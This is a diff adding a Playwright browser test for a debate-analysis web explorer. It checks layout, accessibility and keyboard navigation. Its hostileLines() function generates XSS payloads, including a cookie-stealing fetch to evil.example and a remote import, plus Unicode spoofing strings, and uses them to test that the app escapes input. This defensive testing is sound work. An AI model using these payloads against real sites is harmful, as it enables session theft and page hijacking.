@@ -1,0 +1,199 @@
+// The explorer in a real Chromium, as an analyst and as an attacker would use it.
+//   node tests/browser/explorer.mjs AGON [CASE [SCREENSHOT_FOLDER]]     without CASE, the sample is analysed first
+// Exits with 77 where there is no Chromium (a skipped test for ctest). Ends with "N passed, N failed".
+import { spawn, spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createRequire } from "node:module";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { fileURLToPath } from "node:url";
+
+const root = join(dirname(fileURLToPath(import.meta.url)), "../..");
+const require = createRequire(join(root, "web/package.json"));
+const [agon, sample, shots] = process.argv.slice(2);
+const browserPath = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find(existsSync);
+if (!browserPath || !existsSync(join(root, "web/node_modules/playwright-core"))) {
+  console.log("skipped: no Chromium or no web/node_modules/playwright-core");
+  process.exit(77);
+}
+const { chromium } = require("playwright-core");
+const axe = readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
+
+let passed = 0, failed = 0;
+const check = (holds, what) => {
+  if (holds) return void passed++;
+  failed++;
+  console.log(`FAILED: ${what}`);
+};
+
+const servers = [];
+const serve = (folder, ...more) =>
+  new Promise((resolve, reject) => {
+    const child = spawn(agon, ["serve", folder, ...more], { stdio: ["ignore", "pipe", "inherit"] });
+    servers.push(child);
+    let text = "";
+    child.stdout.on("data", (data) => {
+      text += data;
+      const address = /http:\/\/\S+/.exec(text)?.[0];
+      if (address) resolve(address);
+    });
+    child.on("exit", () => reject(new Error("agon serve ended")));
+  });
+const stop = (code) => {
+  for (const child of servers) child.kill("SIGTERM");
+  process.exit(code);
+};
+
+/** A page that notes every complaint, dialog, and request to anywhere but the explorer. */
+async function watched(context, base) {
+  const page = await context.newPage();
+  const seen = [];
+  page.on("console", (message) => message.type() === "error" && seen.push(`console: ${message.text()}`));
+  page.on("pageerror", (error) => seen.push(`error: ${error.message}`));
+  page.on("dialog", (dialog) => { seen.push(`dialog: ${dialog.message()}`); void dialog.dismiss(); });
+  page.on("request", (request) => {
+    const url = request.url();
+    if (!url.startsWith(base) && !url.startsWith("data:") && !url.startsWith("blob:")) seen.push(`request: ${url}`);
+  });
+  return { page, seen };
+}
+
+const browser = await chromium.launch({ executablePath: browserPath, args: ["--no-sandbox"] });
+
+/** The sample case, analysed into a folder of its own. */
+function analysedSample() {
+  const folder = mkdtempSync(join(tmpdir(), "agon-sample-"));
+  for (const step of [["import", folder, join(root, "examples/made-in-china/threads"), "--topic", "中国制造", "--quiet"],
+    ["import", folder, join(root, "examples/made-in-china/official"), "--stream", "official", "--topic", "中国制造", "--quiet"],
+    ["analyze", folder, "--quiet"]]) {
+    const done = spawnSync(agon, step);
+    if (done.status > 1) throw new Error(`agon ${step[0]} ended with ${done.status}: ${done.stderr}`);
+  }
+  return folder;
+}
+
+async function everyPage() {
+  const folder = sample ?? analysedSample();
+  const base = new URL(await serve(folder)).origin + "/";
+  const get = async (path) => (await fetch(base + path)).json();
+  const overview = await get("api/overview");
+  const debate = overview.debates[0].debate;
+  const details = await get(`api/debate?id=${debate}`);
+  const quote = details.key_points.find((p) => p.quote)?.quote ?? details.relations.exchanges[0]?.from;
+  const pages = {
+    overview: "", debate: `debate/${debate}`, network: `debate/${debate}?view=network`, coding: `coding/${debate}`,
+    thread: `thread/${details.questions[0].thread}`, voice: `voice/${quote.voice}`, search: `search?q=${encodeURIComponent("高铁")}`,
+    consensus: "consensus", actors: "actors", numbers: "numbers", quality: "quality", method: "method", corrections: "corrections",
+    rows: `rows?table=camps/voices&where=${encodeURIComponent(`debate=${debate}\npole=a`)}`,
+  };
+  for (const [lang, scheme, width] of [["en", "light", 1200], ["zh", "dark", 1200], ["en", "dark", 320], ["zh", "light", 320]]) {
+    const context = await browser.newContext({ viewport: { width, height: 800 }, colorScheme: scheme, bypassCSP: true });
+    const { page, seen } = await watched(context, base);
+    for (const [name, path] of Object.entries(pages)) {
+      const label = `${name} ${lang} ${scheme} ${width}`;
+      await page.goto(`${base}${path}${path.includes("?") ? "&" : "?"}lang=${lang}`);
+      await page.waitForSelector("h1");
+      await page.waitForFunction(() => !document.querySelector(".waiting"));
+      check(!(await page.$(".failed")), `${label}: a part could not be loaded`);
+      const tooWide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      check(tooWide <= 0, `${label}: ${tooWide} pixels too wide`);
+      await page.evaluate(axe);
+      const found = await page.evaluate(() => axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"] }));
+      check(found.violations.length === 0, `${label}: axe: ${found.violations.map((v) => `${v.id} at ${v.nodes[0].target.join(" ")}`).join("; ")}`);
+      if (shots) await page.screenshot({ path: join(shots, `${label.replaceAll(" ", "-")}.png`), fullPage: width > 400 });
+    }
+    check(seen.length === 0, `${lang} ${scheme} ${width}: ${seen.slice(0, 3).join("; ")}`);
+    await context.close();
+  }
+  await quoteByKeyboard(base, debate, quote);
+  if (!sample) rmSync(folder, { recursive: true, force: true });
+}
+
+/** From a quote to its post, with the keyboard alone. */
+async function quoteByKeyboard(base, debate, quote) {
+  const context = await browser.newContext();
+  const { page, seen } = await watched(context, base);
+  await page.goto(`${base}debate/${debate}?lang=en`);
+  await page.waitForSelector(".quote blockquote a");
+  let reached = false;
+  for (let i = 0; i < 80 && !reached; i++) {
+    await page.keyboard.press("Tab");
+    reached = await page.evaluate(() => document.activeElement?.closest("blockquote") !== null);
+  }
+  check(reached, "keyboard: no quote can be reached with Tab");
+  const text = await page.evaluate(() => document.activeElement?.textContent ?? "");
+  await page.keyboard.press("Enter");
+  await page.waitForSelector("mark#wanted", { timeout: 5000 }).catch(() => undefined);
+  check((await page.textContent("mark#wanted").catch(() => "")) === text, "keyboard: Enter on a quote does not mark it in its thread");
+  check(await page.evaluate(() => {
+    const box = document.getElementById("wanted")?.getBoundingClientRect();
+    return box !== undefined && box.top >= 0 && box.bottom <= innerHeight;
+  }), "keyboard: the marked quote is not in sight");
+  check(seen.length === 0, `keyboard: ${seen.join("; ")}`);
+  check(quote !== undefined, "a quote is there");
+  await context.close();
+}
+
+/** Posts, names and titles that try to become code, or to look like something else. */
+function hostileLines() {
+  const starts = ["<script>", "<img src=x onerror=", "<svg onload=", "\"><script>", "'><img src=x onerror=", "<iframe srcdoc=", "<a href=javascript:", "<style>@import '", "<base href='", "<meta http-equiv=refresh content='0;url=", "</title><script>", "<!--><script>", "<math><mi xlink:href=javascript:", "<details open ontoggle=", "<body onload="];
+  const middles = ["alert(1)", "fetch('https://evil.example/'+document.cookie)", "window.opener.location='https://evil.example'", "document.body.innerHTML=''", "import('https://evil.example/x.js')"];
+  const ends = ["</script>", ">", "'>", "\">"];
+  const lines = [];
+  for (const start of starts) for (const middle of middles) for (const end of ends) lines.push(start + middle + end);
+  const disguises = ["\u202Egnp.exe", "\u2066left\u2069", "\u200Fright", "p\u0430ypal", "\uFEFFzero", "a\u200Bb", "\u0000nul".replace("\u0000", ""), "é".normalize("NFD"), "👩‍👩‍👧‍👦", "𠮷野家", "ﷺ", "\u0301combining"];
+  for (let i = 0; i < 60; i++) lines.push(`${disguises[i % disguises.length]} 国产芯片应该由国家主导 ${i}`);
+  return lines;
+}
+
+async function attacks() {
+  const folder = mkdtempSync(join(tmpdir(), "agon-hostile-"));
+  const lines = hostileLines();
+  writeFileSync(join(folder, "posts.jsonl"), lines.map((text, i) => JSON.stringify({ question: i % 2 ? `国家该不该管？${text}` : text, author: text.slice(0, 60), votes: i, text: `反对这种说法，${text}，国家不应该管。` })).join("\n") + "\n");
+  const made = join(folder, "case");
+  spawnSync(agon, ["import", made, join(folder, "posts.jsonl"), "--quiet"]);
+  const analysed = spawnSync(agon, ["analyze", made, "--quiet"]);
+  check(analysed.status === 0, `attacks: analyze ended with ${analysed.status}: ${analysed.stderr}`);
+  const base = new URL(await serve(made)).origin + "/";
+  const context = await browser.newContext(); // with the page's own Content-Security-Policy in force
+  const { page, seen } = await watched(context, base);
+  const rows = await (await fetch(`${base}api/rows?table=threads/posts`)).json();
+  check(rows.all === lines.length, `attacks: ${rows.all} of ${lines.length} hostile posts came in`);
+  const ids = new Set();
+  for (let offset = 0; offset < rows.all; offset += 200) {
+    const part = await (await fetch(`${base}api/rows?table=threads/questions&offset=${offset}`)).json();
+    for (const row of part.rows) ids.add(row.thread);
+    await page.goto(`${base}rows?table=threads/posts&offset=${offset}`);
+    await page.waitForSelector("table");
+    await page.goto(`${base}rows?table=threads/questions&offset=${offset}`);
+    await page.waitForSelector("table");
+  }
+  for (const path of ["", "quality", "method", "actors", "consensus", "numbers", ...["script", "alert", "evil", "国家"].map((q) => `search?q=${q}`)]) {
+    await page.goto(base + path);
+    await page.waitForSelector("h1");
+    await page.waitForFunction(() => !document.querySelector(".waiting"));
+  }
+  for (const id of [...ids].slice(0, 40)) {
+    await page.goto(`${base}thread/${id}`);
+    await page.waitForSelector(".post");
+  }
+  const alive = await page.evaluate(() => document.querySelectorAll("header.top nav a").length > 5);
+  check(alive, "attacks: the page was rewritten");
+  const policed = seen.filter((s) => !s.includes("404"));
+  check(policed.length === 0, `attacks: ${policed.slice(0, 3).join("; ")}`);
+  // What reads from right to left stays inside its own element.
+  const loose = await page.evaluate(() => [...document.querySelectorAll(".who, .text")].filter((e) => !e.querySelector("bdi")).length);
+  check(loose === 0, `attacks: ${loose} names or texts stand outside <bdi>`);
+  await context.close();
+  rmSync(folder, { recursive: true, force: true });
+}
+
+try {
+  await everyPage();
+  await attacks();
+} catch (error) {
+  check(false, String(error));
+}
+await browser.close();
+console.log(`${passed} passed, ${failed} failed`);
+stop(failed === 0 ? 0 : 1);
